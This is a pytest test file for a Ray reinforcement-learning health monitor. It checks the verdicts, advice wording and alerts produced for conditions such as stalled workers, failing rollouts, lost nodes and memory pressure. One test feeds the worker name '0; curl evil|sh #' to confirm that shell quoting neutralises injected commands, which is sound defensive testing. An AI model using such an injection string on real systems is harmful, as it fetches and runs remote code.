"""Verdicts on runs, from numbers: what is named first, in which words, and what is kept quiet about."""

import dataclasses
import re
import shlex
from pathlib import Path

import language_views
import pytest
from health_views import fleet, run, worker

from raymon import health
from raymon.health import RUN_STATES, SEVERITIES, judge
from raymon.health.learning import learning
from raymon.health.verdicts import REMARKS
from raymon.train.options import Config
from raymon.views import NodeView, RunView, StoreView

ENGINES = ("own", "rllib", "verl", "openrlhf", "skyrl", "nemo_rl", "slime", "custom")
MARK = re.compile(r" \(`((?:[^\s()`]|\([^()]*\))+)`\)")
CODE = re.compile(r"--\w|\w_\w|\w\.\w|raymon (profile|doctor|incidents|train)|ray status")

NOTHING = {"rollouts_per_second": 0.0, "steps_per_second": 0.0}
PHASES = {"environment": 0.8, "inference": 0.1, "sending": 0.01, "waiting": 0.05}


def sampling(shares, **more):
    workers = tuple(worker(str(number), phase_ratio=shares) for number in range(2))
    return run(*workers, phase_ratio={"sample": 0.8, "learn": 0.2}, **more)


def healthy(**more):
    values = {"phase_ratio": {"sample": 0.45, "learn": 0.45, "other": 0.1}, **more}
    return dataclasses.replace(fleet(0.1, 0.1, 0.1), **values)


def nodes(**more):
    odd = NodeView("b", "10.0.0.3", **{"silent_seconds": 0.0, "workers": ("1", "2"), **more})
    return healthy(nodes=(NodeView("a", "10.0.0.1", silent_seconds=0.0, workers=("0",), driver=True), odd))


def failing(name, **more):
    values = {"activity": "waiting", "rollouts_per_second": 0.0, "steps_per_second": 0.0, "rollouts_total": 0.0}
    return worker(name, **values, failures={"TypeError": 23.0}, failures_total=400.0, **more)


def empty(name, **more):
    values = {"rollouts_total": 90.0, "steps_total": 0.0, "empty_rollouts": 90.0, "empty_seconds": 30.0, **more}
    return worker(name, activity="waiting", steps_per_second=0.0, **values)


def idle(name):
    values = {"activity": "waiting", "rollouts_per_second": 0.0, "steps_per_second": 0.0, "rollouts_total": 0.0}
    return worker(name, **values, mean_rollout_seconds=None)


UNPLACED = run(
    worker(),
    worker("1", lifecycle="restarting"),
    unplaced_seconds=20.0,
    free_resources={"CPU": (2.0, 4.0), "GPU": (0.0, 2.0)},
)

IDLE_AFTER_FAILURE = worker(
    "1", activity="waiting", failures={"KeyError": 0.0}, failures_since_success=1.0, progress_age_seconds=7.0
)

CASES = {
    "learner": (run(worker(phase_ratio={"waiting": 0.78}), phase_ratio={"learn": 0.96}), "learner_bound", "info"),
    "environment": (sampling(PHASES), "environment_bound", "info"),
    "inference": (sampling({**PHASES, "environment": 0.1, "inference": 0.8}), "inference_bound", "info"),
    "sending": (sampling({**PHASES, "environment": 0.1, "sending": 0.8}), "transfer_bound", "info"),
    "mixed": (sampling({"environment": 0.3, "inference": 0.3, "sending": 0.3}), "sampling_bound", "info"),
    "calls": (sampling({"environment": 0.1, "waiting": 0.8}), "overhead_bound", "info"),
    "workers that wait while the driver learns": (
        run(worker(phase_ratio={"environment": 0.4, "waiting": 0.6}), phase_ratio={"sample": 0.55, "learn": 0.45}),
        "environment_bound",
        "info",
    ),
    "one awaited": (
        run(
            *(worker(str(n), phase_ratio={"environment": 0.9 if n == 1 else 0.1, "waiting": 0.8}) for n in range(3)),
            phase_ratio={"sample": 0.9},
        ),
        "sampling_bound",
        "info",
    ),
    "one that hangs": (
        run(
            *(
                worker(
                    str(n),
                    phase_ratio={"environment": 0.1, "waiting": 0.8},
                    stuck_seconds=5.0 * (n == 1),
                    activity="environment" if n == 1 else "waiting",
                )
                for n in range(3)
            ),
            phase_ratio={"sample": 0.9},
        ),
        "sampling_bound",
        "info",
    ),
    "sampling": (run(phase_ratio={"sample": 0.9}), "sampling_bound", "info"),
    "driver's inference": (healthy(phase_ratio={"inference": 0.5}), "inference_bound", "info"),
    "transfer": (healthy(phase_ratio={"transfer": 0.5}), "transfer_bound", "info"),
    "weights": (healthy(phase_ratio={"weights": 0.5}), "weights_bound", "info"),
    "other": (healthy(phase_ratio={"other": 0.7, "learn": 0.3}), "overhead_bound", "info"),
    "no phases": (healthy(phase_ratio={"other": 1.0}), "no_phases", "info"),
    "node silent": (nodes(silent_seconds=9.0, error="timed out"), "node_silent", "critical"),
    "node gone": (nodes(silent_seconds=9.0, listed=False), "node_lost", "critical"),
    "node lost": (nodes(silent_seconds=9.0, listed=False, departure="failure"), "node_lost", "critical"),
    "node drained": (
        nodes(silent_seconds=9.0, listed=False, departure="planned", departure_reason="spot instance reclaimed"),
        "node_drained",
        "warning",
    ),
    "node lost, its worker elsewhere": (
        nodes(silent_seconds=9.0, listed=False, departure="failure", workers=(), lost_workers=("2",)),
        "node_lost",
        "warning",
    ),
    "node lost long ago": (
        nodes(silent_seconds=90.0, listed=False, departure="failure", workers=(), lost_workers=("2",)),
        "healthy",
        "ok",
    ),
    "no place": (UNPLACED, "workers_unplaced", "warning"),
    "another job waits": (healthy(unplaced_seconds=20.0), "healthy", "ok"),
    "node out of memory": (nodes(memory_used_bytes=99e9, memory_total_bytes=100e9), "node_memory", "warning"),
    "node's disk full": (nodes(disk_used_bytes=99e9, disk_free_bytes=1e9), "node_disk", "warning"),
    "node's clock off": (nodes(clock_offset_seconds=40.0), "healthy", "ok"),
    "healthy": (healthy(), "healthy", "ok"),
    "all rollouts fail": (run(failing("0"), failing("1")), "rollouts_failing", "critical"),
    "one worker fails": (run(worker(), failing("1"), worker("2")), "rollouts_failing", "warning"),
    "many rollouts fail": (run(worker(failures={"OSError": 3.0}, failures_total=90.0)), "rollouts_failing", "warning"),
    "a failed rollout holds the run up": (
        run(
            worker(activity="waiting"),
            worker("1", activity="waiting", failures={"KeyError": 0.0}, failures_since_success=1.0),
            last_update_age_seconds=20.0,
            iteration_seconds=0.5,
        ),
        "rollouts_failing",
        "critical",
    ),
    "the driver waits for a worker whose rollout failed": (
        run(
            worker(),
            worker("1", activity="waiting", failures={"KeyError": 0.0}, failures_since_success=1.0),
            driver_waits_for=("1",),
            driver_silent_seconds=7.0,
            longest_update_gap_seconds=60.0,
        ),
        "rollouts_failing",
        "warning",
    ),
    "the driver waits for samples, a worker whose rollout failed does nothing": (
        healthy(workers=(worker("0"), IDLE_AFTER_FAILURE), phase="sample"),
        "rollouts_failing",
        "warning",
    ),
    "the driver has just begun to wait for samples": (
        healthy(workers=(worker("0"), IDLE_AFTER_FAILURE), phase="sample", last_update_age_seconds=1.0),
        "healthy",
        "ok",
    ),
    "the driver learns, a worker whose rollout failed does nothing": (
        healthy(workers=(worker("0"), IDLE_AFTER_FAILURE), phase="learn"),
        "healthy",
        "ok",
    ),
    "a failed rollout, and the run goes on": (
        healthy(workers=(worker("0", failures={"KeyError": 0.0}, failures_since_success=1.0), worker("1"))),
        "healthy",
        "ok",
    ),
    "all rollouts are empty": (run(empty("0"), empty("1")), "rollouts_empty", "critical"),
    "one worker's rollouts are empty": (run(worker(), empty("1")), "rollouts_empty", "warning"),
    "polled between two episodes": (
        healthy(workers=(worker("0"), empty("1", steps_total=90.0, empty_seconds_before=15.0))),
        "healthy",
        "ok",
    ),
    "few rollouts fail": (
        healthy(workers=tuple(worker(str(n), failures={"OSError": 0.4}, failures_total=90.0) for n in range(2))),
        "healthy",
        "ok",
    ),
    "nothing has succeeded": (
        run(*(idle(str(n)) for n in range(2)), started_seconds_ago=300.0),
        "no_progress",
        "critical",
    ),
    "nothing has succeeded yet": (run(idle("0"), started_seconds_ago=20.0), "starting", "info"),
    "stalled": (run(worker(heartbeat_age_seconds=30.0), worker("1")), "worker_stalled", "critical"),
    "given up": (run(worker(lifecycle="given_up"), worker("1")), "workers_lost", "critical"),
    "restarting": (run(worker(lifecycle="restarting"), worker("1")), "workers_lost", "warning"),
    "just replaced": (healthy(recent_losses={"killed": 1}), "workers_lost", "warning"),
    "straggler": (fleet(0.1, 0.1, 0.5), "straggler_bound", "warning"),
    "no progress": (healthy(last_update_age_seconds=20.0, iteration_seconds=0.5), "no_progress", "critical"),
    "long iterations": (healthy(last_update_age_seconds=20.0, iteration_seconds=9.0), "healthy", "ok"),
    "diverging": (healthy(learning={"kl": 2.0}), "diverging", "warning"),
    "not finite": (healthy(learning={"nonfinite_updates_per_second": 0.1}), "loss_not_finite", "critical"),
    "store full": (healthy(store=StoreView(used_bytes=9e8, available_bytes=1e8)), "object_store", "warning"),
    "spilled": (healthy(store=StoreView(spilled_bytes=2e8)), "object_store", "warning"),
    "references": (
        healthy(store=StoreView(refs_held=90, refs_oldest_age_seconds=20.0, refs_growth_per_second=3)),
        "references_kept",
        "warning",
    ),
    "references turn over": (
        healthy(store=StoreView(refs_held=90, refs_oldest_age_seconds=0.4, refs_growth_per_second=3)),
        "healthy",
        "ok",
    ),
    "memory": (run(worker(rss_growth_bytes_per_second=9e6, rss_bytes=1e9), worker("1")), "memory_growth", "warning"),
    "driver's memory": (
        healthy(driver_rss_growth_bytes_per_second=9e6, driver_rss_bytes=1e9, started_seconds_ago=60.0),
        "memory_growth",
        "warning",
    ),
    "dropped": (healthy(dropped_per_second={"stale": 3.0}, received_per_second=10.0), "samples_dropped", "warning"),
    "dropped at the end": (healthy(dropped_per_second={"shutdown": 3.0}, received_per_second=10.0), "healthy", "ok"),
    "driver gone": (healthy(driver_heartbeat_age_seconds=20.0), "driver_gone", "critical"),
    "driver and exporter silent": (
        healthy(driver_heartbeat_age_seconds=11.0, exporter_age_seconds=10.0, data_age_seconds=10.0),
        "healthy",
        "ok",
    ),
    "all silent, and the exporter late": (  # as measured on a node whose CPU other programs took
        run(
            worker(heartbeat_age_seconds=10.5),
            worker("1", heartbeat_age_seconds=11.0),
            driver_heartbeat_age_seconds=11.3,
            exporter_age_seconds=7.9,
            data_age_seconds=10.5,
            report_seconds=3.0,
        ),
        "healthy",
        "ok",
    ),
    "driver gone, then the exporter": (
        healthy(driver_heartbeat_age_seconds=20.0, exporter_age_seconds=8.0),
        "driver_gone",
        "critical",
    ),
    "stale": (healthy(exporter_age_seconds=30.0, data_age_seconds=30.0), "stale", "unknown"),
    "finished": (healthy(state="finished", data_age_seconds=900.0), "finished", "ok"),
    "stopped": (healthy(state="stopped", data_age_seconds=900.0), "stopped", "ok"),
    "failed": (healthy(state="failed"), "failed", "critical"),
    "killed": (healthy(driver_process="gone", exporter_age_seconds=30.0), "killed", "critical"),
    "starting": (healthy(state="starting", started_seconds_ago=5.0), "starting", "info"),
    "only counters": (RunView(run="r"), "unknown", "unknown"),
}


@pytest.mark.parametrize("case", sorted(CASES))
def test_first_finding(case):
    view, state, severity = CASES[case]
    verdict = judge(view)
    assert (verdict.state, verdict.severity) == (state, severity), verdict.sentence
    assert state in RUN_STATES
    assert severity in SEVERITIES
    assert verdict.sentence.endswith(".")
    assert len(verdict.workers) == len(view.workers)


def test_every_state_that_is_not_well_is_reached_by_a_case():
    cases = [*CASES.values(), *language_views.CASES.values()]
    assert {state for _, state, _ in cases} == set(RUN_STATES)


@pytest.mark.parametrize("why", [{"driver_process": "idle"}, {"node_cpu_ratio": {"n": 0.99}}])
@pytest.mark.parametrize("present", [True, False], ids=["old gauges", "no gauges"])
def test_a_starved_exporter_makes_no_driver_gone(present, why):
    together = {"driver_heartbeat_age_seconds": 12.0, "data_age_seconds": 12.0, "exporter_age_seconds": 0.8}
    last = {"heartbeat_age_seconds": 12.0, "present": present}
    silent = tuple(dataclasses.replace(each, **last) for each in healthy().workers)
    assert judge(healthy(workers=silent, **together)).state == "driver_gone", "nothing shows that it lives"
    assert judge(healthy(workers=silent, **together, **why)).severity != "critical"
    assert judge(healthy(**together, **why)).state == "driver_gone", "its workers report"
    late = {**together, "driver_heartbeat_age_seconds": 31.0}
    older = tuple(dataclasses.replace(each, heartbeat_age_seconds=31.0) for each in silent)
    assert judge(healthy(workers=older, **late, **why)).state == "driver_gone"


def test_every_code_of_a_finding_is_declared():
    folder = Path(health.__file__).parent
    codes = {code for path in folder.glob("*.py") for code in re.findall(r'Finding\(\s*"(\w+)"', path.read_text())}
    assert len(codes) > 30
    assert codes <= {*RUN_STATES, *REMARKS}


def test_one_node_without_cpu_is_named_with_its_workers():
    view = nodes(cpu_ratio=0.99)
    assert "node_overloaded" not in {finding.code for finding in judge(view).findings}, "the other node says nothing"
    other = dataclasses.replace(view.nodes[0], cpu_ratio=0.5)
    findings = judge(dataclasses.replace(view, nodes=(other, view.nodes[1]))).findings
    (remark,) = [finding for finding in findings if finding.code == "node_overloaded"]
    assert remark.sentence == "Node 10.0.0.3 has no CPU left (99 % used), others have; workers 1 and 2 on it."
    assert judge(view).state != "node_overloaded"


def test_the_sentence_on_a_learner_has_the_numbers_and_the_options():
    verdict = judge(dataclasses.replace(CASES["learner"][0], engine="own"))
    assert verdict.sentence == "The update takes 96 % of each iteration; workers wait 78 % of the time."
    assert "(`--minibatch`)" in verdict.advice
    assert "(`--device cuda`)" in verdict.advice


def advices(engine):
    return [judge(dataclasses.replace(view, engine=engine)).advice for view, _, _ in CASES.values()]


def test_failing_rollouts_name_workers_class_and_rate():
    verdict = judge(CASES["all rollouts fail"][0])
    assert verdict.sentence == "Every rollout of workers 0 and 1 fails with TypeError, 46 a second."
    assert [item.state for item in verdict.workers] == ["failing", "failing"]
    view = CASES["many rollouts fail"][0]
    partly = judge(view)
    assert partly.sentence == "25 % of the rollouts fail (3 a second) with OSError, in worker 0."
    raised = [dataclasses.replace(worker, failed_where="step (env.py:3)") for worker in view.workers]
    assert "OSError in `step (env.py:3)`, in worker 0." in judge(dataclasses.replace(view, workers=raised)).sentence


def test_only_raymons_trainer_is_said_to_skip_updates():
    view = CASES["not finite"][0]
    own, other = (judge(dataclasses.replace(view, engine=engine)) for engine in ("own", None))
    assert own.sentence.endswith("not finite and were skipped.")
    assert other.sentence.endswith("that is not finite.")
    assert "resume from a checkpoint" in other.advice


def test_empty_rollouts_name_the_workers_and_are_no_exceptions():
    verdict = judge(CASES["all rollouts are empty"][0])
    assert verdict.sentence == "Every rollout of workers 0 and 1 returns no step, 18 a second."
    assert [finding.code for finding in verdict.findings].count("rollouts_failing") == 0
    assert verdict.workers[0].reason == "every rollout returns no step since it started, 9 a second"


def test_rollouts_without_counted_steps_are_a_remark():
    view = run(worker(rollouts_total=90.0, steps_total=0.0, steps_per_second=0.0))
    assert "no_steps" in [finding.code for finding in judge(view).findings]
    assert "no_steps" not in [finding.code for finding in judge(run(worker(), *view.workers)).findings]


def test_workers_without_calls_are_a_remark_where_the_driver_records_nothing():
    idle = {"activity": "waiting", "rollouts_total": 9.0, "steps_per_second": 0.0, "rollouts_per_second": 0.0}
    workers = [worker(name, progress_age_seconds=age, **idle) for name, age in (("0", 40.0), ("1", 31.0))]
    verdict = judge(run(*workers, steps_per_second=0.0))
    assert verdict.sentence == "Nothing stands out."
    (remark,) = (finding for finding in verdict.findings if finding.code == "workers_idle")
    assert remark.sentence.startswith("No worker has had a call for 31 s: the driver learns, waits or hangs; ")
    for view in (run(workers[0], worker("1")), run(*workers, phase_ratio={"learn": 1.0})):
        assert "workers_idle" not in [finding.code for finding in judge(view).findings]


@pytest.mark.parametrize(
    ("change", "remarked"),
    [
        ({}, True),
        ({"progress_age_seconds": 20.0}, False),
        ({"rollouts_total": 9.0}, False),  # it evaluates
        ({"activity": "environment", "progress_age_seconds": 8.0}, False),
    ],
)
def test_worker_without_calls_while_the_others_go_on_is_a_remark(change, remarked):
    idle = {"activity": "waiting", "progress_age_seconds": 40.0, "rollouts_total": 80.0, "rollouts_per_second": 0.0}
    others = [worker(str(number), rollouts_total=100.0) for number in range(3)]
    unseen = [worker(str(number), rollouts_total=100.0, progress_age_seconds=None) for number in range(3)]
    assert "workers_left_out" not in {f.code for f in judge(run(*unseen, worker("3", **idle))).findings}
    findings = judge(run(*others, worker("3", **{**idle, **change}))).findings
    sentences = [finding.sentence for finding in findings if finding.code == "workers_left_out"]
    assert sentences == (["Worker 3 has had no call for 40 s while the others go on."] if remarked else [])


def test_failed_rollouts_name_the_line_that_raised():
    view, _, _ = CASES["a failed rollout holds the run up"]
    workers = (view.workers[0], dataclasses.replace(view.workers[1], failed_where="Env.step (my_env.py:88)"))
    verdict = judge(dataclasses.replace(view, workers=workers))
    expected = "The last rollout of worker 1 failed with KeyError in `Env.step (my_env.py:88)`, and none has followed."
    assert verdict.sentence == expected
    assert verdict.findings[1].code == "no_progress"


def test_worker_without_a_success_is_not_running():
    states = {item.state for item in judge(run(worker(rollouts_total=0.0, **NOTHING), failing("1"))).workers}
    assert states == {"starting", "failing"}


def test_loop_without_phases_is_judged_by_its_workers():
    unnamed = sampling(PHASES, driver_heartbeat_age_seconds=0.5)
    verdict = judge(dataclasses.replace(unnamed, phase_ratio={"other": 1.0}))
    assert [finding.code for finding in verdict.findings] == ["environment_bound", "no_phases"]
    assert verdict.sentence.startswith("Workers are busy 91 % of the time; 88 % of the workers' busy time")
    assert verdict.evidence[0] == "Your loop names no phases; 100 % of an iteration is unaccounted for."


def test_silent_node_is_named_with_its_workers_which_are_not_stalled():
    verdict = judge(CASES["node silent"][0])
    assert verdict.sentence == "Node 10.0.0.3 has not answered for 9.0 s: workers 1 and 2 are out of sight."
    assert [item.state for item in verdict.workers] == ["running", "unknown", "unknown"]


def test_drained_node_is_distinguished_from_a_lost_one():
    assert judge(CASES["node drained"][0]).sentence == (
        "Node 10.0.0.3 was drained or stopped (spot instance reclaimed), silent for 9.0 s: "
        "workers 1 and 2 are out of sight."
    )


def test_worker_without_a_place_names_the_scarcest_resource_first():
    verdict = judge(UNPLACED)
    assert verdict.sentence == (
        "Worker 1 waits for resources: Ray has found no place for 20 s (free: 0 of 2 GPU, 2 of 4 CPU)."
    )
    large = judge(dataclasses.replace(UNPLACED, free_resources={"CPU": (4.0, 4.0)})).findings[0]
    assert large.sentence.endswith(
        "(free: 4 of 4 CPU). None of these is in use: a worker, or a placement group of several, needs more than there "
        "is."
    )
    assert "Ask for less for each worker" in large.advice
    unseen = run(worker(), workers_by_state={"expected": 4}, unplaced_seconds=20.0)
    assert judge(unseen).sentence.startswith("3 workers wait for resources: ")


@pytest.mark.parametrize(
    ("watched", "state"), [(12.0, "starting"), (95.0, "workers_unplaced"), (200.0, "workers_unplaced")]
)
def test_workers_that_ray_cannot_place_are_not_those_of_a_later_run(watched, state):
    new = run(state="starting", workers_by_state={"expected": 4}, unplaced_seconds=200.0, watched_seconds=watched)
    verdict = judge(new)
    assert verdict.state == state
    assert ("no place for at least 1 min 35 s" in verdict.sentence) == (watched == 95.0)


@pytest.mark.parametrize(("started", "state"), [(10.0, "starting"), (40.0, "workers_unplaced")])
def test_a_short_look_names_workers_that_have_long_waited_for_a_place(started, state):
    waiting = run(
        state="training",
        workers_by_state={"expected": 4},
        unplaced_seconds=6.0,
        watched_seconds=6.5,
        started_seconds_ago=started,
    )
    assert judge(waiting).state == state


def test_driver_without_workers_on_a_full_node_may_be_late():
    late = run(driver_heartbeat_age_seconds=18.0, node_cpu_ratio={"a": 1.0}, driver_process="idle")
    assert judge(late).state != "driver_gone"
    assert judge(dataclasses.replace(late, driver_heartbeat_age_seconds=40.0)).state == "driver_gone"


def test_code_in_advice_is_marked_as_code():
    cases = [*CASES.values(), *language_views.CASES.values()]
    views = [dataclasses.replace(view, engine=engine) for view, _, _ in cases for engine in ENGINES]
    texts = {finding.advice for view in views for finding in judge(view).findings}
    assert sum("`" in text for text in texts) > 50
    assert [text for text in texts if CODE.search(re.sub(r"`[^`]+`", "", text))] == []


def test_advice_names_only_options_that_exist():
    fields = {field.name for field in dataclasses.fields(Config)}
    advised = {option for advice in advices("own") for option in re.findall(r"--([a-z-]+)", advice)}
    advised -= {"worker"}  # of raymon profile
    assert len(advised) > 10
    assert not {option for option in advised if option.replace("-", "_") not in fields}


def test_advice_for_rllib_names_settings_that_its_configuration_has():
    from ray.rllib.algorithms.algorithm import Algorithm
    from ray.rllib.algorithms.ppo import PPOConfig
    from ray.rllib.core.rl_module.default_model_config import DefaultModelConfig

    known = {*dir(PPOConfig()), *dir(DefaultModelConfig())}
    advised = {name for advice in advices("rllib") for name in MARK.findall(advice)}
    assert len(advised) > 10
    assert hasattr(Algorithm, "from_checkpoint")
    assert advised - known == {"Algorithm.from_checkpoint", "ray.init(object_store_memory=...)"}
    assert not any("--" in advice.replace("--worker ", "") for advice in advices("rllib"))


def test_advice_for_any_other_trainer_is_plain_words():
    advice = " ".join(advices("custom"))
    assert "fewer epochs, a smaller network or a GPU." in advice
    assert set(MARK.findall(advice)) == {"ray.init(object_store_memory=...)"}
    assert "{" not in advice


@pytest.mark.parametrize("name", ["{x}", "{", "}{0}", "{minibatch!r:>99}", "0; curl evil|sh #"])
def test_a_worker_whose_name_looks_like_a_mark_breaks_no_advice(name):
    view = run(worker(name, heartbeat_age_seconds=30.0), worker("1"), engine="own")
    assert f"`raymon profile --worker {shlex.quote(name)}`. A time-out (`--worker-timeout`)" in judge(view).advice


def test_with_a_full_cpu_more_workers_are_not_advised():
    assert "add workers" in judge(sampling(PHASES, node_cpu_ratio={"a": 0.3})).advice
    full = judge(sampling(PHASES, node_cpu_ratio={"a": 0.99}))
    assert "add workers" not in full.advice
    assert any("CPU of every node is full" in sentence for sentence in full.evidence)


def test_further_findings_are_evidence():
    view = run(
        worker(heartbeat_age_seconds=30.0),
        worker("1", rss_growth_bytes_per_second=9e6),
        worker("2"),
        learning={"kl": 2.0},
        phase_ratio={"learn": 0.9},
        steps_per_second=100.0,
        usual_steps_per_second=900.0,
    )
    verdict = judge(view)
    assert verdict.state == "worker_stalled"
    evidence = " ".join(verdict.evidence)
    for word in ("KL divergence", "memory", "The update takes", "Throughput fell to 100 steps/s (normally 900)"):
        assert word in evidence


@pytest.mark.parametrize(
    ("returns", "sentence"),
    [
        ((22, 300, 480), "The mean return rose from 22 to 480 within 2 min."),
        ((22, 500, 480), "The mean return rose from 22 to 480 within 2 min; its best, 500, was 1 min ago."),
        ((22, 500, 498), "The mean return rose from 22 to 498 within 1 min and has stayed there for 1 min."),
        ((22, 500, 90), "The mean return fell to 90 from its best, 500, 1 min ago."),
        ((500, 500, 500), "The mean return, 500, has not risen for 2 min."),
        ((-1200, -1100, -1300), "The mean return fell to -1.3k from its best, -1.1k, 1 min ago."),
        ((-200, -250, -210), "The mean return, -210, has not risen for 2 min."),
    ],
)
def test_learning_is_reported_next_to_the_verdict(returns, sentence):
    history = tuple((60.0 * at, float(value)) for at, value in enumerate(returns))
    verdict = judge(healthy(return_history=history))
    assert verdict.state == "healthy"
    assert sentence in verdict.evidence


def test_a_single_low_return_is_no_fall():
    noisy = [(float(at), 0.8 + 0.1 * (at % 2)) for at in range(90)]
    assert "fell" not in learning(healthy(return_history=((0.0, 0.7), *noisy[1:], (90.0, 0.5))))


def test_returns_of_a_few_seconds_are_not_compared():
    for history in (((0.0, 1.0), (90.0, 2.0)), ((0.0, 1.0), (5.0, 2.0), (9.0, 3.0))):
        assert not judge(healthy(return_history=history)).evidence


def test_several_stalled_workers_are_counted():
    view = run(*(worker(str(number), heartbeat_age_seconds=30.0) for number in range(9)), worker("9"))
    assert "0, 1, 2, 3, 4 and 4 more" in judge(view).sentence


def test_workers_that_the_driver_expects_and_that_nobody_has_seen():
    young = run(workers_by_state={"expected": 4}, started_seconds_ago=12.0, updates=3.0)
    first, *others = judge(young).findings
    assert first.sentence == "The run is starting: 0 of 4 workers sample."
    assert "no_workers" not in {finding.code for finding in others}, "Ray exports every ten seconds"
    old = judge(dataclasses.replace(young, started_seconds_ago=600.0))
    assert old.severity != "critical", "a driver may be monitored alone"
    assert "The run expects 4 workers, and none has reported" in [f.sentence.split(":")[0] for f in old.findings]


def test_long_updates_and_starting_workers_are_no_fault():
    assert judge(healthy(driver_heartbeat_age_seconds=4.0)).severity == "ok"
    young = run(worker(activity="starting", progress_age_seconds=None), started_seconds_ago=3.0, updates=0.0)
    assert judge(young).state == "starting"


def test_an_update_may_wait_for_a_rollout_that_is_usually_long():
    samples = [worker(str(n), latency_seconds={"p99": 25.0}, longest_pause_seconds=0.05) for n in range(3)]
    burst = {"iteration_seconds": 0.2, "phase": "sample"}  # three results at once, then nothing until the next three
    assert judge(healthy(last_update_age_seconds=24.0, workers=tuple(samples), **burst)).state != "no_progress"
    assert judge(healthy(last_update_age_seconds=60.0, workers=tuple(samples), **burst)).state == "no_progress"
    idle = tuple(dataclasses.replace(each, activity="waiting") for each in samples)
    assert judge(healthy(last_update_age_seconds=24.0, workers=idle, **burst)).state == "no_progress"


def test_run_whose_workers_have_not_all_begun_is_starting():
    late = {"activity": "starting", "progress_age_seconds": None, "seen_seconds": 30.0, "stuck_seconds": 30.0}
    view = healthy(workers=(worker("0"), worker("1", **late), worker("2", **late)), updates=9.0)
    verdict = judge(view)
    assert (verdict.state, verdict.severity) == ("starting", "info")
    assert verdict.sentence == "2 of 3 workers have not finished a first step or rollout."
    assert verdict.evidence == ("Workers 1 and 2 are starting.",)
    unseen = {"workers_by_state": {"expected": 4}, "started_seconds_ago": 30.0}
    one_seen = dataclasses.replace(view, workers=view.workers[:1], **unseen)
    assert judge(one_seen).sentence.startswith("3 of 4 workers have")
    assert judge(dataclasses.replace(one_seen, started_seconds_ago=300.0)).state == "healthy"
    idle = worker("1", activity="waiting", rollouts_total=0.0, mean_rollout_seconds=None, **NOTHING)
    assert judge(dataclasses.replace(view, workers=(view.workers[0], idle))).state == "healthy", "nothing calls it"
    new = dataclasses.replace(idle, seen_seconds=30.0)
    assert judge(dataclasses.replace(view, workers=(view.workers[0], new))).state == "starting"


def test_idle_workers_of_other_roles_do_not_make_a_run_starting():
    late = {"activity": "starting", "progress_age_seconds": None, "stuck_seconds": 30.0, "seen_seconds": 30.0}
    reward = language_views.reward(busy=0.0, **late)
    view = language_views.trains(language_views.rollout("0"), reward)
    assert judge(view).workers[1].state == "starting"
    assert judge(view).state == "healthy"
    begins = dataclasses.replace(view, workers=(*view.workers, language_views.rollout("1", **late)))
    assert judge(begins).sentence == "1 of 2 rollout workers has not finished a first step or rollout."


def test_each_alert_is_raised_by_its_symptom_only():
    assert list(health.alarms(healthy(), judge(healthy()))) == []
    again = dataclasses.replace(worker("1"), restarts={"died": 3}, recent_restarts=1)
    failing = {"failures": {"TypeError": 5.0}, "failures_total": 50.0, "rollouts_per_second": 5.0}
    symptoms = {
        "RaymonWorkerStalled": run(worker("0"), worker("1", heartbeat_age_seconds=30.0)),
        "RaymonWorkerDead": run(worker("0"), dataclasses.replace(worker("1"), lifecycle="given_up")),
        "RaymonWorkerStraggling": run(*(worker(str(n), mean_rollout_seconds=0.1 + 0.9 * (n == 1)) for n in range(4))),
        "RaymonWorkerRestartLoop": run(worker("0"), again),
        "RaymonRolloutsFailing": healthy(workers=(dataclasses.replace(worker("0"), **failing), worker("1"))),
        "RaymonThroughputCollapsed": healthy(steps_per_second=100.0, usual_steps_per_second=1000.0),
        "RaymonNoUpdate": healthy(last_update_age_seconds=100.0),
        "RaymonLossNotFinite": healthy(learning={"nonfinite_updates_per_second": 1.0, "nonfinite_updates": 3.0}),
        "RaymonPolicyDiverging": healthy(learning={"kl": 2.0}),
        "RaymonNoLearningSignal": language_views.CASES["no signal"][0],
        "RaymonWeightsStale": language_views.CASES["stale weights"][0],
        "RaymonBufferOverfull": language_views.CASES["growing buffer"][0],
        "RaymonObjectStorePressure": healthy(store=StoreView(used_bytes=95.0, available_bytes=5.0)),
        "RaymonMetricsMissing": healthy(exporter_age_seconds=60.0),
    }
    assert set(symptoms) == set(health.ALERTS)
    for name, view in symptoms.items():
        raised = list(health.alarms(view, judge(view)))
        assert name in {alarm.name for alarm in raised}, (name, judge(view))
        assert all(alarm.summary.endswith((".", "…")) for alarm in raised)


def test_two_harms_at_once_raise_two_alerts():
    view = healthy(learning={"kl": 2.0}, store=StoreView(used_bytes=95.0, available_bytes=5.0))
    raised = {alarm.name for alarm in health.alarms(view, judge(view))}
    assert raised == {"RaymonPolicyDiverging", "RaymonObjectStorePressure"}


def test_advice_is_to_profile_a_worker_whose_process_is_there():
    there = worker("0", 40.0, heartbeat_age_seconds=40.0, process="stopped")
    ended = worker("1", 40.0, heartbeat_age_seconds=40.0, process="gone")
    both, one = judge(healthy(workers=(ended, there))), judge(healthy(workers=(ended, worker("0"))))
    assert (both.state, one.state) == ("worker_stalled", "worker_stalled")
    assert "raymon profile --worker 0" in both.advice
    assert "raymon profile" not in one.advice
    assert "Why it ended" in one.advice
